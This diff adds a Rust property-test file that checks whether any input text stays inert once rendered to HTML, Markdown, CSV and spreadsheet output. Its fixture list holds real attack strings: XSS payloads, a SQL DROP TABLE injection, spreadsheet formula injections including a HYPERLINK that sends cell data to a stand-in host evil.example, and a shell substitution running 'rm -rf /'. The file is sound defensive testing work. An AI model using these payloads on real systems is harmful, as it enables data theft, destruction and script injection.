@@ -1,0 +1,54 @@
+//! Property tests: any text in any input field stays inert in every output format.
+//! (HTML adds no markup, Markdown tables keep their column count, CSV parses back to the same values, and
+//! no spreadsheet cell starts with a live formula character.)
+
+use ecs16_evidence::testkit::check_outputs;
+use proptest::prelude::*;
+
+/// Real attack strings, checked on every run whatever proptest generates.
+const ATTACKS: &[&str] = &[
+    "<script>alert(1)</script>",
+    "\"><img src=x onerror=alert(document.domain)>",
+    "javascript:alert(1)",
+    "<svg/onload=alert(1)>",
+    "'; DROP TABLE findings; --",
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "a|b|c\n| --- |",
+    "```\n<b>x</b>\n```",
+    "````",
+    "[link](javascript:alert(1))",
+    "![img](http://evil.example/x.png)",
+    "{{ 7*7 }} {% raw %}",
+    "$(rm -rf /) `id` ${IFS}",
+    "line1\r\nline2\u{2028}line3",
+    "&lt;already&gt; &amp; &#x3C;",
+    "",
+];
+
+#[test]
+fn known_attack_strings_stay_inert_everywhere() {
+    for a in ATTACKS {
+        if let Err(e) = check_outputs(a) {
+            panic!("{a:?}: {e}");
+        }
+    }
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 48, ..ProptestConfig::default() })]
+
+    #[test]
+    fn any_text_stays_inert_everywhere(text in any::<String>()) {
+        prop_assert_eq!(check_outputs(&text), Ok(()));
+    }
+
+    #[test]
+    fn markup_heavy_text_stays_inert_everywhere(text in "[<>&\"'`|=+@\\-\\t\\r\\n\\\\/\\[\\]()*_~$#! a-z]{0,40}") {
+        prop_assert_eq!(check_outputs(&text), Ok(()));
+    }
+}
